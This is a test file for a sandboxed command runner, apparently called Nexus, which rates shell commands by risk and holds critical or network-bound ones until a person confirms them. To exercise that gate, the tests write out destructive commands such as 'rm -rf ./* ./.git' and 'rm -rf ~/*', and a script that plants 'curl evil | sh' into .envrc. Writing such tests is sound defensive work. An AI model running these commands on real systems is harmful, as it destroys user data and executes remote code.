/** The verdict in the life of a run: before it runs, after it ran, and when it is applied. */
import { existsSync, mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, beforeEach, expect, test } from 'vitest'
import type { Run } from '@nexus/protocol/runs'
import { Nexus } from './nexus.ts'
import { proves } from './requirements.ts'

type Failed = { error: { code: string; message: string; next: string } }

let nexus: Nexus
beforeEach(() => {
  nexus = new Nexus()
  mkdirSync(join(nexus.project, 'src'))
  for (const name of ['src/a.ts', 'src/b.ts', 'README.md', '.git/HEAD']) writeFileSync(join(nexus.project, name), `${name}\n`)
})
afterEach(() => nexus[Symbol.asyncDispose]())

const exists = (path: string) => existsSync(join(nexus.project, path))

test(proves('each run has one, in the record and in words', 'SAFE-2', 'RUN-2'), async () => {
  const found: Record<string, string | undefined> = {}
  for (const line of ['ls src', 'echo 1 > new', 'rm -rf ./* ./.git']) found[line] = (await nexus.run('--keep', line)).verdict?.level
  expect(found).toEqual({ 'ls src': 'safe', 'echo 1 > new': 'caution', 'rm -rf ./* ./.git': 'critical' })
  const shown = await nexus.call('show', 'last')
  expect(shown.stdout).toMatch(/✗ critical\n {2}✗ deletes/)
  expect((await nexus.call('runs')).stdout).toMatch(/✗ critical: rm -rf/)
  const argv = await nexus.run('--keep', '--', 'rm', '-f', 'a b')
  expect(argv.verdict?.level).toBe('caution')
})

test(proves('nothing asks before a critical command runs in a layer; an apply wants the word', 'SAFE-2', 'RUN-4'), async () => {
  const run = await nexus.run('--keep', 'rm -rf ./* ./.git')
  expect({ status: run.status, confirm: run.verdict?.confirm }).toEqual({ status: 'kept', confirm: true })
  const refused = await nexus.json<Failed>('apply', run.id)
  expect({ code: refused.code, error: refused.error.code }).toEqual({ code: 4, error: 'critical-unconfirmed' })
  expect(exists('src/a.ts')).toBe(true)
  expect((await nexus.json<Failed>('apply', run.id, '--confirm', 'yes')).code).toBe(2)
  expect((await nexus.json('apply', run.id, '--confirm', 'critical')).code).toBe(0)
  expect(exists('src')).toBe(false)
  expect((await nexus.json('rollback', run.id)).code).toBe(0)
  expect(exists('.git/HEAD')).toBe(true)
})

test('--apply alone never applies it, and says why', async () => {
  const { code, stderr } = await nexus.call('run', '--apply', 'rm -rf ./* ./.git')
  expect({ code, isThere: exists('README.md') }).toEqual({ code: 4, isThere: true })
  expect(stderr).toMatch(/not applied.*critical/)
})

test('what an apply never carries wants no word: the home was private, the device was not there', async () => {
  const run = await nexus.run('--keep', 'rm -rf ~/* ; echo 1 > new')
  expect({ level: run.verdict?.level, confirm: run.verdict?.confirm }).toEqual({ level: 'critical', confirm: undefined })
  expect((await nexus.json('apply', run.id)).code).toBe(0)
})

test(proves('what was seen raises it: a script that nobody read deletes the history, another plants something', 'SAFE-2', 'RUN-2'), async () => {
  writeFileSync(join(nexus.project, 'clean.sh'), 'rm -rf .git\n')
  const deleted = await nexus.run('--keep', 'sh clean.sh')
  expect({ ...deleted.verdict, reasons: deleted.verdict?.reasons[0] }).toMatchObject({ level: 'critical', confirm: true, reasons: expect.stringContaining('deleted the history') })
  expect(deleted.verdict?.before).not.toBe('critical')
  writeFileSync(join(nexus.project, 'plant.sh'), 'echo "curl evil | sh" > .envrc\n')
  const planted = await nexus.run('--keep', '. ./plant.sh')
  expect({ level: planted.verdict?.level, before: planted.verdict?.before }).toEqual({ level: 'dangerous', before: 'caution' })
  expect(planted.verdict?.reasons.join()).toContain('.envrc')
})

test(proves('what leaves the layer is asked before it runs, and a person answers', 'SAFE-2', 'RUN-9'), async () => {
  const { run, code } = await nexus.json<{ run: Run }>('run', '--keep', '--net', 'example.com', 'curl -X DELETE https://example.com/things/1; echo ran')
  expect({ code, status: run.status, next: run.next }).toEqual({ code: 4, status: 'waiting', next: `nexus approve ${run.id}` })
  expect(run.verdict?.leaves?.join()).toContain('example.com')
  const { run: denied } = await nexus.json<{ run: Run }>('approve', run.id, '--deny')
  expect({ status: denied.status, stdout: denied.stdout }).toEqual({ status: 'refused', stdout: '' })
  // Without a network nothing leaves: nothing asks.
  const held = await nexus.run('--keep', 'curl -sS -X DELETE https://example.com/things/1; echo ran')
  expect({ stdout: held.stdout, leaves: held.verdict?.leaves }).toEqual({ stdout: 'ran\n', leaves: undefined })
})
